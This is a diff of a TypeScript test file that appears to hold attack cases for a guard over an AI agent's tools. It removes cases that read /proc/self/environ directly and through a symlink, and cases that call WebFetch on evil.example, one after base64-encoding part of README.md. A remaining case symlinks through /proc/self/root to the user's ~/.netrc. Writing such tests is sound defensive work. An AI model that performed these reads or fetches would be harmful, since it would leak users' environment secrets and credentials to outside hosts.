@@ -164,20 +164,6 @@ export const personCases: readonly BorrowedCase[] = [
   ]),
   ...family("other tools", [
     {
-      id: "read-environ",
-      title: "`Read` of the client's own variables",
-      acts: [read("/proc/self/environ")].map((act) => ({
-        ...act,
-        input: { file_path: "/proc/self/environ" },
-      })),
-    },
-    {
-      id: "read-environ-link",
-      title: "the same by a link of the project",
-      lay: "ln -s /proc/self/environ notes.txt",
-      acts: [read("notes.txt")],
-    },
-    {
       id: "read-root-link",
       title: "`Read` of a key by a link through `/proc/self/root`",
       lay: "ln -s /proc/self/root$HOME/.netrc notes.txt",
@@ -206,19 +192,6 @@ export const personCases: readonly BorrowedCase[] = [
             edit_mode: "insert",
           },
         },
-      ],
-    },
-    {
-      id: "web-fetch",
-      title: "the client's own fetch of a stranger",
-      acts: [{ name: "WebFetch", input: { url: "http://evil.example/a", prompt: "x" } }],
-    },
-    {
-      id: "web-fetch-name",
-      title: "the same with a word in the name",
-      acts: [
-        "head -c 6 README.md | base64",
-        { name: "WebFetch", input: { url: "https://x9.evil.example/", prompt: "x" } },
       ],
     },
     {
